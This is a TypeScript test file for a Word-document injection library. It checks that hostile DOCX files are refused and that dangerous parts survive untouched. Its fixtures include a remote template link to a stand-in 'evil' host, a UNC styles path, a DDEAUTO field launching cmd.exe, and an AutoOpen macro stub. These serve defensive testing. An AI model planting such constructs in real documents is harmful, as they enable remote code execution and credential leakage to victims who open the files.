import { describe, expect, test } from 'vitest';
import { injectIntoDocx } from '../../../../shared/docx/injectIntoDocx';
import { inspectDocx } from '../../../../shared/docx/inspectDocx';
import { changed, filesOf } from '../../../support/corpus/agencyCorpus';
import { hostileDocuments } from '../../../support/corpus/hostileDocuments';
import { expectOutsideUnchanged } from '../../../support/corpus/outsideBytes';
import { zipAs } from '../../../support/corpus/zipVariants';
import { aDocx, aParagraphXml } from '../../../support/docxFiles';
import { aParagraph } from '../../../support/sampleWordDocument';

const usual = aDocx({ body: aParagraphXml('{{요구사항}}') });
const insertions = [
  { place: { kind: 'placeholder', text: '{{요구사항}}' } as const, parts: [{ nodes: [aParagraph('글')] }] },
];
const inject = (bytes: Uint8Array) => injectIntoDocx({ bytes, fileName: '문서.docx', insertions });
const main = 'word/document.xml';
const withMain = (change: (xml: string) => string) => changed(usual, main, change);
const text = (xml: string) => new TextEncoder().encode(xml);

describe('a hostile document is refused for what it is', () => {
  test.each([...hostileDocuments])('%s', { timeout: 60_000 }, (_, made, type) => {
    const bytes = made();
    const result = inject(bytes);
    const inspected = inspectDocx(bytes, '문서.docx');
    expect(result).toMatchObject({ ok: false, failure: { type } });
    expect(inspected).toMatchObject({ ok: false, failure: { type } });
  });
});

describe('what could do harm when it is opened is left as it is and does nothing here', () => {
  const relationship = (more: string) => (xml: string) =>
    xml.replace('</Relationships>', `${more}</Relationships>`);
  const rels = 'word/_rels/document.xml.rels';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const field = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  test.each<[string, Uint8Array]>([
    [
      'a template on another computer',
      changed(
        usual,
        rels,
        relationship(
          `<Relationship Id="x1" Type="${office}/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>`,
        ),
      ),
    ],
    [
      'styles on another computer',
      changed(
        usual,
        rels,
        relationship(
          `<Relationship Id="x1" Type="${office}/styles" Target="\\\\evil\\s.xml" TargetMode="External"/>`,
        ),
      ),
    ],
    [
      'relationships that go round in a circle',
      zipAs(
        [
          ...filesOf(
            changed(
              usual,
              rels,
              relationship(`<Relationship Id="x1" Type="${office}/header" Target="document.xml"/>`),
            ),
          ),
          [
            'word/_rels/styles.xml.rels',
            text(
              `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${office}/x" Target="document.xml"/></Relationships>`,
            ),
          ],
        ],
        {},
      ),
    ],
    [
      'a field that starts a program',
      withMain((xml) =>
        xml.replace(
          '<w:body>',
          `<w:body><w:p>${field('begin')}<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>${field('separate')}${field('end')}</w:p>`,
        ),
      ),
    ],
    [
      'macros',
      aDocx({ body: aParagraphXml('{{요구사항}}'), more: { 'word/vbaProject.bin': 'Sub AutoOpen' } }),
    ],
  ])('%s', (_, bytes) => {
    const result = inject(bytes);
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expectOutsideUnchanged(bytes, result.value.bytes, main);
  });
});
